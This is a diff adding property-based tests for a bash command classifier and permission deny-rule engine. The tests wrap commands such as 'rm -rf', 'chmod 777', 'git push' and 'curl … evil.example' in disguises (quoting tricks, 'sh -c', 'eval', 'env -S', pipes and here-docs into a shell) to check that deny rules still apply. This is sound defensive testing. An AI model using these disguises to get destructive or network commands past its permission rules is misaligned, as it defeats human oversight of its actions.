@@ -2,7 +2,13 @@
 
 from __future__ import annotations
 
-from hypothesis import HealthCheck, given, settings
+import os
+import re
+import shlex
+import subprocess
+
+import pytest
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 from cox.policy.bash import classify, split
@@ -140,3 +146,145 @@ def test_scrub_is_idempotent_and_sanitize_leaves_no_controls(text: str) -> None:
     assert all(ch in "\n\t" or not (ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F) for ch in clean)
     assert not any(ch in clean for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
     assert sanitize(clean) == clean
+
+
+# --- issue 11: a line bash would run as command X ---------------------------------------------
+# X is drawn from commands that write or run something (and a few read-only ones), then disguised
+# with the tricks of issue 11 (path prefixes, quoting of the name, line continuations inside words,
+# brace expansion, git's global options and aliases, wrappers, env -S, sh -c and friends, pipes and
+# here-strings into a shell, grouped commands), each applied only where bash still runs X.
+
+DANGEROUS = {
+    ("rm", "-rf", "target"): "Bash(rm:*)", ("touch", "MARKER"): "Bash(touch:*)",
+    ("git", "push", "origin", "main"): "Bash(git push:*)", ("chmod", "777", "f"): "Bash(chmod:*)",
+    ("curl", "-o", "x", "evil.example"): "Bash(curl:*)", ("mv", "a", "b"): "Bash(mv:*)",
+    ("python3", "x.py"): "Bash(python3:*)", ("sort", "-o", "out", "in"): "Bash(sort -o:*)",
+    ("sort", "--out=x", "in"): "Bash(sort:*)", ("git", "config", "core.pager", "x"): "Bash(git config:*)",
+    ("tee", "out"): "Bash(tee:*)", ("git", "grep", "--open=vi", "x"): "Bash(git grep:*)",
+    ("date", "--se=2020-01-01"): "Bash(date:*)", ("find", ".", "-delete"): "Bash(find:*)",
+}
+READ_ONLY_X = {("ls", "-la"): "Bash(ls:*)", ("cat", "f"): "Bash(cat:*)", ("git", "status"): "Bash(git status:*)"}
+EXTERNAL = ["nohup {}", "timeout 5 {}", "nice -n 3 {}", "env {}", "env -i {}", "env FOO=1 {}", "/usr/bin/env {}",
+            "stdbuf -o0 {}", "setsid {}", "sudo {}", "xargs {}", "flock /tmp/l {}", "/usr/bin/nohup {}",
+            "/usr/bin/timeout 9 {}", "/usr/bin/xargs -r {}", "watch {}"]
+BUILTIN_PREFIX = ["command {}", "exec {}", "builtin command {}", "! {}"]  # ``! a && b`` would not run b
+ENV_SPLIT = ["env -S {q}", "/usr/bin/env -S {q}", "env --split-string={q}", "env -iS {q}"]  # env's own quoting
+SHELL = ["sh -c {q}", "bash -c {q}", "/bin/sh -c {q}", "/usr/bin/bash -c {q}", "bash --norc -c {q}", "sh -ec {q}",
+         "bash -o posix -c {q}", "bash --rcfile /dev/null -c {q}", *ENV_SPLIT, "su -c {q}", "bash /dev/stdin <<< {q}",
+         "bash - <<< {q}", "sh -s <<< {q}", "runuser -c {q}", "script -qc {q} /dev/null", "sh <<< {q}",
+         "flock /tmp/l -c {q}"]
+BUILTIN_STRING = ["eval {q}", "trap -- {q} EXIT", "trap {q} EXIT"]
+PIPED = ["echo {q} | sh", "printf '%s\\n' {q} | bash", "echo {q} | /bin/sh -s", "cat <<< {q} | sh", "echo {q} | bash -",
+         "source /dev/stdin <<< {q}", ". /dev/stdin <<< {q}", "bash <(echo {q})"]
+# {d}: a fresh delimiter; the newline after it lets a later wrap add text (``; }``) on a line of its own
+HEREDOCS = ["sh <<'{d}'\n{}\n{d}\n", "cat <<'{d}' | bash\n{}\n{d}\n", "bash <<\"{d}\"\n{}\n{d}\n"]
+GROUPS = ["{{ {}; }}", "( {} )", "time {{ {}; }}", "time {}", "if true; then {}; fi", "true && {}",
+          "false || {}", "for i in 1; do {}; done", "{} & wait", "ls; {}", "while false; do :; done; {}",
+          "time -p {}", "! {{ {}; }}"]
+_ENDS_COMMAND = re.compile(r"\{\}(?:;|$)")
+_BASHISM = re.compile(r"\$'|\btime\b|<<<|<\(|\bsource\b|\bbuiltin\b|\{\S*,")
+_POSIX_SH = re.compile(r"(?:^|[ |/])sh(?: |$)|script -qc|flock /tmp/l -c|watch")
+GIT_GLOBALS = [["-C", "."], ["--no-pager"], ["-c", "a.b=c"], ["--git-dir=.git"], ["-P"], ["--work-tree=."],
+               ["--git-dir", ".git"], ["--literal-pathspecs"]]
+
+
+@st.composite
+def disguised(draw: st.DrawFn, table: dict[tuple[str, ...], str]) -> tuple[str, tuple[str, ...], str]:
+    x = draw(st.sampled_from(sorted(table)))
+    words = list(x)
+    if words[0] == "git":
+        if draw(st.booleans()):
+            globals_ = draw(st.lists(st.sampled_from(GIT_GLOBALS), max_size=3))
+            words = ["git", *[w for g in globals_ for w in g], *words[1:]]
+        elif draw(st.booleans()):
+            words = ["git", "-c", f"alias.zz={words[1]}", "zz", *words[2:]]
+    if draw(st.booleans()) and words[0] in ("rm", "touch", "git", "chmod", "mv", "tee", "sort", "date", "find"):
+        words[0] = "/usr/bin/" + words[0]
+    envable = True  # env -S splits a string with quotes of its own: no $'…', continuation or shell syntax
+    for k, w in enumerate(words):
+        how = draw(st.sampled_from(["plain", "plain", "single", "double", "split", "continue", "ansi", "escape"]))
+        envable = envable and how not in ("continue", "ansi", "escape")
+        if how == "single":
+            words[k] = f"'{w}'"
+        elif how == "double":
+            words[k] = f'"{w}"'
+        elif how == "split" and len(w) > 1:
+            cut = draw(st.integers(1, len(w) - 1))
+            words[k] = f"{w[:cut]}''{w[cut:]}"
+        elif how == "continue" and len(w) > 1:
+            cut = draw(st.integers(1, len(w) - 1))
+            words[k] = f"{w[:cut]}\\\n{w[cut:]}"
+        elif how == "ansi":
+            words[k] = f"$'{w}'"
+        elif how == "escape" and len(w) > 1:  # 'r'\m: the grammar splits it in two words
+            cut = draw(st.integers(1, len(w) - 1))
+            words[k] = f"'{w[:cut]}'\\{w[cut:]}"
+    if len(words) > 1 and draw(st.integers(0, 5)) == 0 and not any(c in w for w in words for c in ",{}' \"$"):
+        line = "{" + ",".join(words) + "}"
+        envable, braced = False, True
+    else:
+        line = " ".join(words)
+        braced = False
+    state = "external"  # a simple command running an external program: any wrapper may prefix it
+    for _ in range(draw(st.integers(0, 3))):
+        choices = GROUPS + SHELL + BUILTIN_STRING + PIPED + HEREDOCS
+        if state == "external":
+            choices = choices + EXTERNAL + BUILTIN_PREFIX
+        bashism = braced or _BASHISM.search(line) is not None  # POSIX sh (dash) would not run X
+        open_doc = line.endswith("\n")  # a here-document ends the line: only a newline may follow it
+        wrap = draw(st.sampled_from([c for c in choices if (envable or c not in ENV_SPLIT)
+                                     and not (bashism and _POSIX_SH.search(c))
+                                     and (not open_doc or "{q}" in c or _ENDS_COMMAND.search(c))]))
+        if open_doc:
+            wrap = wrap.replace("{};", "{}")
+        q = shlex.quote(line)
+        d = "EOF"
+        while d in line:
+            d += "X"
+        line = wrap.format(line, q=q, d=d) if "{q}" not in wrap else wrap.format(q=q)
+        state = "external" if wrap in EXTERNAL or wrap in SHELL else "other"
+        envable = envable and wrap in EXTERNAL
+    return line, x, table[x]
+
+
+@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(case=disguised(DANGEROUS))
+def test_a_line_that_runs_a_dangerous_command_is_never_read_only_and_its_deny_rule_applies(
+        case: tuple[str, tuple[str, ...], str]) -> None:
+    line, x, rule = case
+    assert classify(line).risk is not Risk.READ_ONLY, (line, x)
+    assert DENY_ENGINES[rule].decide(bash(line), PermissionMode.BYPASS).kind == "deny", (line, split(line))
+
+
+@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(case=disguised(READ_ONLY_X))
+def test_a_deny_rule_applies_to_a_read_only_command_however_it_is_disguised(
+        case: tuple[str, tuple[str, ...], str]) -> None:
+    line, x, rule = case
+    assert DENY_ENGINES[rule].decide(bash(line), PermissionMode.BYPASS).kind == "deny", (line, split(line))
+    assert engine(ask=[rule]).decide(bash(line), PermissionMode.DEFAULT).kind == "ask", line
+
+
+DENY_ENGINES = {rule: engine(deny=[rule]) for rule in [*DANGEROUS.values(), *READ_ONLY_X.values()]}
+
+
+# absent here, endless, asynchronous, or deadlocking when nested (flock on one file)
+UNRUNNABLE_HERE = ("sudo ", "watch ", "setsid ", "xargs -r", "flock ")
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
+@given(case=disguised({("touch", "MARKER"): "Bash(touch:*)"}))
+def test_the_disguises_are_real_bash_runs_the_command_they_hide(case: tuple[str, tuple[str, ...], str],
+                                                                tmp_path_factory: pytest.TempPathFactory) -> None:
+    """The generator's honesty: each disguised line, run by bash, really runs ``touch MARKER``
+    (so the properties above are about lines that run the program, not lines that fail)."""
+    line = case[0]
+    assume(not any(u in line for u in UNRUNNABLE_HERE) and ("su -c" not in line or os.geteuid() == 0)
+           and ("runuser" not in line or os.geteuid() == 0))
+    # xargs hands its command an empty input, and a trap set while the EXIT trap runs never fires
+    assume(not ("xargs" in line and any(s in line for s in ("<<", "|", " -s", " - ")))
+           and line.count("trap") < 2)
+    d = tmp_path_factory.mktemp("run")
+    subprocess.run(["bash", "-c", line], cwd=d, stdin=subprocess.DEVNULL, capture_output=True, timeout=30,
+                   check=False)
+    assert (d / "MARKER").exists(), line
